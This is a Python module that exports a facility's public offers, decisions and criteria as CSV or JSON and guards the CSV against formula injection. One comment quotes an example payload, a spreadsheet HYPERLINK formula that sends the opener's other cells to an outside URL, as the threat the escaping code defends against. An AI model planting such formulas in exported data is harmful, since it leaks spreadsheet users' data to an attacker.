"""The public data sets, as CSV or JSON: what an anonymous visitor may already see.

Each data set is read through the same services as the anonymous API and pages (an offer
list as a caller with no account, the published decisions, the criteria in force), so an
export can never hold more than the public sees: no drafts, no requests, no votes, no expert.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime

from sqlmodel import Session, col, select

from facility.auth.models import Partner
from facility.ids import encode_id
from facility.offers import service as offers
from facility.reference.models import State
from facility.timeutil import utc_iso, utcnow
from governance import criteria, publication

FORMATS = ("csv", "json")
BATCH = 500


@dataclass(frozen=True)
class Dataset:
    name: str
    description: str
    columns: list[str]
    rows: list[dict]


def _offers(session: Session) -> Dataset:
    rows, offset = [], 0
    while True:
        page, total = offers.list_offers(session, actor=None, limit=BATCH, offset=offset)
        rows.extend(page)
        offset += BATCH
        if offset >= total:
            break
    rows.sort(key=lambda o: o.id)
    partners = {p.id: p for p in session.exec(select(Partner).where(
        col(Partner.id).in_({o.partner_id for o in rows})))}
    themes = offers.themes_by_offer(session, [o.id for o in rows])  # type: ignore[misc]
    columns = ["id", "title", "kind", "status", "partner", "partner_kind", "themes",
               "eligible_groups", "eligible_states", "languages", "budget", "currency",
               "max_requests", "window_start", "window_end", "description", "conditions",
               "published_at"]
    return Dataset("offers", "Published (and closed) offers of support", columns, [{
        "id": encode_id("Offer", o.id), "title": o.title, "kind": o.kind, "status": o.status,  # type: ignore[arg-type]
        "partner": partners[o.partner_id].name, "partner_kind": partners[o.partner_id].kind,
        "themes": themes.get(o.id, []), "eligible_groups": o.eligible_groups,  # type: ignore[arg-type]
        "eligible_states": o.eligible_states, "languages": list(o.languages), "budget": o.budget,
        "currency": o.currency, "max_requests": o.max_requests, "window_start": o.window_start,
        "window_end": o.window_end, "description": o.description, "conditions": o.conditions,
        "published_at": o.published_at} for o in rows])


def _decisions(session: Session) -> Dataset:
    rows, offset = [], 0
    while True:
        page, total = publication.published_decisions(session, limit=BATCH, offset=offset)
        rows.extend(page)
        offset += BATCH
        if offset >= total:
            break
    states = {s.code: s.name for s in session.exec(select(State))}
    columns = ["decided_at", "kind", "decision", "state_code", "state", "request_title", "partner"]
    return Dataset("decisions", "The committee's published decisions (never the votes)", columns, [{
        "decided_at": d.decided_at, "kind": d.kind, "decision": d.decision,
        "state_code": d.state_code, "state": states.get(d.state_code, ""),
        "request_title": d.request_title, "partner": d.partner} for d in rows])


def _criteria(session: Session) -> Dataset:
    in_force = criteria.in_force(session)
    body = criteria.parse_body(in_force.body).model_dump(mode="json")
    rows = [{"version": in_force.version, "title": in_force.title, "adopted_at": in_force.adopted_at,
             "part": part, "rule": rule, "value": value}
            for part, rules in body.items() for rule, value in rules.items()]
    return Dataset("criteria", "The criteria in force, one rule a row",
                   ["version", "title", "adopted_at", "part", "rule", "value"], rows)


DATASETS: dict[str, Callable[[Session], Dataset]] = {
    "offers": _offers, "decisions": _decisions, "criteria": _criteria,
}


def dataset(session: Session, name: str) -> Dataset:
    return DATASETS[name](session)


def _plain(value: object) -> object:
    if isinstance(value, datetime):
        return utc_iso(value)
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, list | dict):
        return value
    return value if value is None or isinstance(value, int | float | bool) else str(value)


# A spreadsheet reads a cell starting with one of these as a formula (or, for tab and carriage
# return, strips them and reads what follows as one): `=HYPERLINK("http://…?"&A2)` in an offer's
# title would send the opener's other cells to whoever wrote it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """A text cell a spreadsheet shows as text: OWASP's rule for CSV injection, a single quote
    before a cell that would start a formula. Only CSV cells go through it; JSON stays as written."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _cell(value: object) -> str:
    """A CSV cell: lists joined with '; ', nested values as JSON, nothing for null; text made
    spreadsheet-safe (numbers are written as numbers, a negative one is not a formula)."""
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, list) and all(isinstance(v, str) for v in value):
        return spreadsheet_safe("; ".join(value))
    if isinstance(value, list | dict):
        return json.dumps(value, ensure_ascii=False, sort_keys=True)
    return spreadsheet_safe(str(value))


def render(data: Dataset, format: str) -> bytes:
    """The data set as CSV (a header row, then one row per record) or JSON. Every CSV the
    facility writes (/exports/…, `facility export public`) is made here, cells by `_cell`."""
    if format == "json":
        return json.dumps({
            "dataset": data.name, "description": data.description,
            "generated_at": utc_iso(utcnow()), "columns": data.columns,
            "rows": [{c: _plain(row[c]) for c in data.columns} for row in data.rows],
        }, ensure_ascii=False, indent=2).encode("utf-8")
    buffer = io.StringIO()
    # RFC 4180's CRLF: the writer then quotes every cell holding a CR or an LF (with "\n" it
    # left a lone CR bare, which a spreadsheet reads as the start of a new row).
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(data.columns)
    writer.writerows([_cell(row[c]) for c in data.columns] for row in data.rows)
    return buffer.getvalue().encode("utf-8")
